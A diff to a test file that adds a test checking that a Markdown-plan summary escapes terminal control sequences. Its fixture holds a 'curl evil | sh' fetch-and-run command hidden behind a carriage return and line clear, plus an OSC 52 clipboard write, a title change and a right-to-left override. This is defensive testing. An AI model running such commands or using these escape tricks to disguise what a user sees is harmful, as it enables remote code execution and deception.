@@ -300,6 +300,25 @@ def test_summary_lists_every_command_a_run_starts(git_repo: GitRepo) -> None:
     assert "  integration test: pytest -q" in summary_lines(import_markdown(doc))
 
 
+def test_the_summary_shows_terminal_sequences_of_the_document_escaped() -> None:
+    """A Markdown plan is someone else's text: a title or a check holding an OSC 52
+    clipboard write, a title change, a carriage return that would overwrite the shown
+    command, or a right-to-left override is listed escaped (``\\x1b``), never sent to
+    the terminal, so the commands shown are the commands that run."""
+    doc = (
+        "# P\n\n### Team 1: Build\x1b]0;pwned\x07\n**Task:** build\n"
+        "**Deliverables:** `out.txt`\n"
+        "**Checks:** `curl evil | sh\r\x1b[2Kpytest -q \x1b]52;c;eA==\x07 \u202eexe.txt`\n"
+    )
+    lines = summary_lines(import_markdown(doc))
+    text = "\n".join(lines)
+    assert all(line.isprintable() for line in lines), [ln for ln in lines if not ln.isprintable()]
+    check = next(ln for ln in lines if ln.startswith("  check of "))
+    assert "curl evil | sh" in check and "\\x1b[2Kpytest" in check
+    assert "\\x1b]52;c;eA==\\x07" in check and "\\u202eexe.txt" in check
+    assert "\\x1b]0;pwned\\x07" in text
+
+
 def test_run_of_a_markdown_plan_refuses_without_a_terminal_unless_yes(git_repo: GitRepo) -> None:
     """Without a terminal to ask on, `run PLAN.md` lists the commands and exits 2 with
     one line naming --yes; nothing runs."""
